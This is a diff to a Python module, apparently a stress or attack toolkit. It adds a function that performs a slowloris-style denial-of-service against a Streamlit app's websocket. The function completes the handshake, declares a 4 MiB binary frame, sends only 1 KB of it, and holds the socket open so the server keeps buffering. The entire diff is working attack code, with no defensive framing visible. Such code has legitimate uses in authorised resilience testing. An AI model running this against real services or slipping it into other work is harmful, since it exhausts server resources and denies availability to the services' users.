@@ -300,3 +300,26 @@ def big_frames(url: str, source: str, frames: int, size: int) -> list:
         except Exception:
             break
     return held
+
+
+def stalled_frame(url: str, source: str, declared: int = 4 * 2**20, sent: int = 1024, timeout: float = 10.0) -> socket.socket:
+    """A websocket to the explorer that starts a frame declaring `declared` bytes, sends `sent` of
+    them and stops (a slowloris on the websocket: the server buffers a frame until it is whole).
+    The open socket is returned; the server ends it when its pings go unanswered."""
+    host, port = _target(url)
+    sock = connect(url, source, timeout)
+    key = base64.b64encode(os.urandom(16)).decode()
+    sock.sendall((f"GET /_stcore/stream HTTP/1.1\r\nHost: {host}:{port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
+                  f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Protocol: streamlit\r\n\r\n").encode())
+    answer = b""
+    while b"\r\n\r\n" not in answer:
+        piece = sock.recv(4096)
+        if not piece:
+            raise ConnectionError("the server closed the connection during the websocket handshake")
+        answer += piece
+    status = answer.partition(b"\r\n")[0].decode(errors="replace")
+    if status.split()[1:2] != ["101"]:
+        raise ConnectionError(f"the websocket was refused: {status}")
+    mask = os.urandom(4)  # a client's frames are masked: header, 64-bit length, mask, then the (masked) payload
+    sock.sendall(bytes([0x82, 0x80 | 127]) + declared.to_bytes(8, "big") + mask + bytes(sent))
+    return sock
